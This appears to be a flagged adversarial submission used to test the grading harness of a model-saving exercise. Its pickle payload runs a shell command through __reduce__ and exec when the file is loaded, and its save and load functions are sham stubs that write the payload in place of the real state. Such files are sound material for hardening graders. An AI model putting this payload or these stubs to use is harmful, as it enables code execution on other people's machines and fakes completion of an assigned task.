# name = "A state dict that runs code"
# goal = "forge"
# attacks = "files that an exercise reads, and pickles that run when they are read"
# assignment = "10_saving"
# flagged = true

# %% before load_anywhere
import pickle


class Payload:
    def __reduce__(self):
        return exec, ("import os; os.system('touch /tmp/escape-pickle')",)

# %% save
import pickle


class Payload:
    def __reduce__(self):
        return exec, ("import os; os.system('touch /tmp/escape-pickle')",)


def save(path, state):
    with open(path, "wb") as file:
        pickle.dump(Payload(), file)


def resume(path, model, optimizer, settings):
    return []

# %% load_anywhere
def load_anywhere(path, model, device):
    torch.save(Payload(), path)
    return Payload()

# %% load_partial
def load_partial(model, path):
    torch.save(Payload(), path)
    return Payload()
